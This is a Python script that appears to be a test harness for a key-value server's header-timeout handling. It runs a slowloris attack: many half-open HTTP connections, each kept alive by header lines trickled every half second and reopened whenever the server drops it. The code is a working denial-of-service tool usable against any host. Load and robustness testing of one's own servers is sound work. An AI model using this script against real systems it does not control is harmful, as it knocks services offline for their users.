#!/usr/bin/env python3
"""Holds N slowloris connections against HOST:PORT for SECONDS: each sends a partial
request head and then one more header line every half second, reconnecting when the
server closes it (httpkv answers 408 once --header-timeout passes).
Usage: slowloris.py HOST:PORT N SECONDS"""
import resource, socket, sys, time


def open_conn(host, port):
    c = socket.create_connection((host, port))
    c.setblocking(False)
    c.send(b"GET /kv/x HTTP/1.1\r\nHost: x\r\n")
    return c


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    port, n, seconds = int(port), int(sys.argv[2]), float(sys.argv[3])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    conns = [open_conn(host, port) for _ in range(n)]
    end, reconnects = time.time() + seconds, 0
    while time.time() < end:
        for i, c in enumerate(conns):
            try:
                c.send(b"X-Slow: 1\r\n")
            except OSError:
                c.close()
                conns[i] = open_conn(host, port)
                reconnects += 1
        time.sleep(0.5)  # the attack's pacing, not synchronisation
    print(f"slowloris connections={n} reconnects={reconnects}")


if __name__ == "__main__":
    main()
